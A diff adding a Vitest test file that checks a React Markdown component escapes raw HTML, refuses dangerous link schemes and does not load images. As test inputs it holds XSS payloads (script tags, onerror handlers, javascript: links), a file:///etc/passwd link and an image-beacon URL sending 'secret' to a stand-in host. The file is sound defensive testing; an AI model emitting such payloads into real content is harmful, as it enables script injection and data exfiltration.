@@ -1,0 +1,45 @@
+import { renderToStaticMarkup } from 'react-dom/server';
+import { describe, expect, it } from 'vitest';
+import { pageKit } from '../../store/page.test-kit.js';
+import { StoreProvider } from '../../store/store-context.js';
+import { Markdown } from './Markdown.js';
+
+function rendered(text: string): string {
+  return renderToStaticMarkup(
+    <StoreProvider store={pageKit().store}>
+      <Markdown text={text} />
+    </StoreProvider>,
+  );
+}
+
+describe('Markdown', () => {
+  it('loads no picture: it shows its words and its address', () => {
+    const html = rendered('![a pixel](https://evil.example/p.png?d=secret)');
+    expect(html).not.toContain('<img');
+    expect(html).toContain('a pixel');
+    expect(html).toContain('https://evil.example/p.png?d=secret</a>');
+  });
+
+  it.each(['<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '<iframe src="https://a"></iframe>'])(
+    'shows %s as text',
+    (html) => {
+      const out = rendered(`before ${html} after\n\n${html}`);
+      expect(out).not.toMatch(/<(img|script|iframe)/);
+      expect(out).toContain('&lt;');
+    },
+  );
+
+  it.each(['javascript:alert(1)', 'data:text/html,x', 'vbscript:x', 'file:///etc/passwd'])(
+    'makes no link of %s',
+    (address) => {
+      expect(rendered(`[press](${address})`)).not.toContain('href');
+    },
+  );
+
+  it('makes tables, tasks and code', () => {
+    const out = rendered('| a |\n|---|\n| b |\n\n- [x] c\n\n```ts\nd\n```');
+    expect(out).toContain('<table>');
+    expect(out).toContain('type="checkbox"');
+    expect(out).toContain('language-ts');
+  });
+});
